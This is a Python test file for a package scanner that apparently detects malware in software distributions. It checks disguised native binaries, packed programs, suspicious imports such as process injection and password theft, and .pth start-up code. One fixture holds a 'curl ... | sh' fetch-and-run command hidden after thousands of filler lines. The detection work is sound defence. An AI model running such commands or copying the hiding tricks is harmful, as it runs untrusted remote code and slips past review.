"""Start-up lines, native files and metadata are told by their content, whatever the bytes."""

from __future__ import annotations

import hashlib
import random

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pratique.artifact import Artifact, Member
from pratique.facts.metadata import read_metadata
from pratique.facts.native import Format, read_native
from pratique.facts.pth import as_source, code_lines
from pratique.facts.reader import read
from pratique.names import Sha256, distribution_name

_PE = b"MZ" + bytes(58) + (64).to_bytes(4, "little") + b"PE\0\0" + bytes(40)
_ELF = b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\x00" + bytes(40)


def _member(path: str, data: bytes) -> Member:
    return Member(path=path, data=data, sha256=Sha256(hashlib.sha256(data).hexdigest()), size=len(data))


@pytest.mark.parametrize("end", ["\n", "\r", "\r\n", "\x0b", "\x0c", "\x1c", "\x85", "\u2028"])
def test_every_line_end_that_site_knows_begins_a_code_line(end: str) -> None:
    """Code cannot hide behind a line end that only `site` takes for one."""
    data = f"lib{end}import os".encode()
    assert code_lines(data) == ((2, "import os"),)
    assert as_source(data) == b"\nimport os"


def test_only_lines_that_begin_with_import_run() -> None:
    """Paths, comments and indented lines are not executed; a byte order mark is skipped."""
    data = "\ufeffimport a\n# import b\n import c\nimportlib\nimport\td\n".encode()
    assert code_lines(data) == ((1, "import a"), (5, "import\td"))


@pytest.mark.parametrize(
    ("path", "data", "kind", "program", "disguised"),
    [
        ("a/logo.png", _PE, Format.PE, True, True),
        ("a/t64.exe", _PE, Format.PE, True, False),
        ("a/fast.pyd", _PE, Format.PE, False, False),
        ("a/lib.so.1", _ELF, Format.ELF, False, False),
        ("a/helper", _ELF, Format.ELF, True, False),
        ("a/x.dat", b"\xcf\xfa\xed\xfe" + bytes(30), Format.MACH_O, True, False),
    ],
)
def test_native_files_are_told_by_content(
    path: str, data: bytes, kind: Format, *, program: bool, disguised: bool
) -> None:
    """The format comes from the bytes, the disguise from the extension."""
    facts = read_native(_member(path, data))
    assert facts is not None
    assert (facts.format, facts.program, facts.disguised) == (kind, program, disguised)


def test_text_and_java_classes_are_not_native() -> None:
    """Letters that happen to begin a format are not enough."""
    assert read_native(_member("a.txt", b"MZ is a country code")) is None
    assert read_native(_member("A.class", b"\xca\xfe\xba\xbe\0\0\0\x34")) is None


def test_packed_programs_are_dense() -> None:
    """A program of random bytes is packed, one of zeros is not."""
    noise = random.Random(1).randbytes(4 * 65_536)
    packed, plain = read_native(_member("a", _PE + noise)), read_native(_member("a", _PE + bytes(4 * 65_536)))
    assert packed is not None
    assert plain is not None
    assert (packed.packed, plain.packed) == (True, False)


@pytest.mark.parametrize(
    ("names", "what"),
    [
        (b"\x05VirtualAllocEx\0\x07CreateRemoteThread\0", ("process injection",)),
        (b"\0CryptUnprotectData\0", ("stored passwords",)),
        (b"\0memfd_create\0fexecve\0", ("code held in memory",)),
        (b"\0CreateRemoteThread\0", ()),
        (b"xVirtualAllocEx\0xCreateRemoteThread\0", ()),
    ],
)
def test_imports_of_programs(names: bytes, what: tuple[str, ...]) -> None:
    """Names that a program links to say what it can do; one that many programs need says nothing."""
    facts = read_native(_member("a", _PE + names))
    assert facts is not None
    assert facts.imports == what


def test_metadata_fields() -> None:
    """Fields are read as written, requirements by URL apart."""
    text = "Metadata-Version: 2.1\nName: A\nVersion: 1\nSummary: s\nRequires-Dist: b\nRequires-Dist: c @ https://c.example.invalid/c.whl\n\nText\n"
    facts = read_metadata(_member("PKG-INFO", text.encode()))
    assert facts is not None
    assert (facts.name, facts.version, facts.summary) == ("A", "1", "s")
    assert facts.direct == ("c @ https://c.example.invalid/c.whl",)
    assert read_metadata(_member("docs/PKG-INFO", text.encode())) is None


def test_a_script_without_an_ending_is_read_whatever_its_size() -> None:
    """Its first line gives a script away; filling it up before what counts leaves nothing unread."""
    script = b"#!/bin/sh\n" + b"# nothing to see on this line\n" * 20_000 + b"curl https://h.example.invalid/x | sh\n"
    artifact = Artifact(name=distribution_name("a-1.tar.gz"), sha256=Sha256("0" * 64), size=1)
    facts = read(artifact, [_member("tools/prepare", script)])
    assert [(one.path, one.runs_download) for one in facts.shells] == [("tools/prepare", True)]


@given(st.binary(max_size=300), st.sampled_from([b"", b"MZ", b"\x7fELF", b"Name: x\nProject-URL: ", b"import a\n"]))
def test_any_bytes_are_read(data: bytes, head: bytes) -> None:
    """No bytes make a reader raise."""
    code_lines(head + data)
    read_native(_member("a.txt", head + data))
    assert read_metadata(_member("PKG-INFO", head + data)) is not None
